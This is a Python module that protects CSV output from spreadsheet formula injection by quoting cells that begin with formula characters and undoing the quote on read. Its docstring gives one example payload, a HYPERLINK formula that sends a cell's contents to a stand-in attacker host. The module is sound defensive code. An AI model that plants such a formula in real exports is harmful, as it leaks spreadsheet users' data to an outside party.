"""Spreadsheet-safe CSV cells: text that a spreadsheet would run as a formula gets a leading quote, and reading undoes
it.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets, so a title such as ``=HYPERLINK("http://evil.example/?x="&A1,"x")``
would run when a person opens the CSV. OWASP's rule (CSV injection) is to prefix such a cell with a
single quote, which spreadsheets show as text. A cell that already starts with quotes before one of
those characters gets one more, so :func:`restore` (remove one quote from exactly those cells) gives
back every text as it was: ``restore(neutralise(t)) == t`` for any ``t``. Numbers are not text and
are never changed: ``-0.5`` in a score column stays a number.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = "=+-@\t\r"  # a spreadsheet reads a cell starting with one of these as a formula
_RISKY = re.compile(r"'*[=+\-@\t\r]")  # what neutralise quotes: a trigger, after any quotes
_QUOTED = re.compile(r"'+[=+\-@\t\r]")  # what restore unquotes: the same, after at least one quote
_FIRST = frozenset(TRIGGERS + "'")  # the first characters of the cells either of them may change


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet shows it as text: a leading ``'`` before a formula's first character."""
    return "'" + text if text[:1] in _FIRST and _RISKY.match(text) else text


def restore(text: str) -> str:
    """The text that :func:`neutralise` was given: one leading ``'`` fewer on the cells it quoted."""
    return text[1:] if text[:1] == "'" and _QUOTED.match(text) else text


def neutralise_texts(texts: list[str]) -> list[str]:
    """:func:`neutralise` on every text of a list; the list itself when none starts with a character it may change
    (the usual case: one set of first characters, 4x quicker than a regex over the joined texts)."""
    if _FIRST.isdisjoint({t[:1] for t in texts}):
        return texts
    return [neutralise(t) if t[:1] in _FIRST else t for t in texts]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with :func:`neutralise` applied to its text cells and column names (the frame itself when
    nothing needs it). Cells that are not text (numbers, missing values) are left as they are."""
    return _map_text(frame, neutralise)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame with :func:`restore` applied to its text cells and column names: a CSV written with
    :func:`neutralise_frame` as it was before (the frame itself when nothing needs it)."""
    return _map_text(frame, restore)


def _map_text(frame: pd.DataFrame, change: Callable[[str], str]) -> pd.DataFrame:
    import pandas as pd

    out = frame
    for number in range(frame.shape[1]):
        column = frame.iloc[:, number]
        if not (column.dtype == object or isinstance(column.dtype, pd.StringDtype)):
            continue  # numbers, booleans, dates: never text
        values = column.tolist()
        changed = [change(v) if isinstance(v, str) and v[:1] in _FIRST else v for v in values]
        if changed != values:
            if out is frame:
                out = frame.copy()
            out.iloc[:, number] = pd.Series(changed, index=column.index, dtype=column.dtype)
    names = [change(n) if isinstance(n, str) else n for n in frame.columns]
    if names != list(frame.columns):
        if out is frame:
            out = frame.copy()
        out.columns = pd.Index(names)
    return out
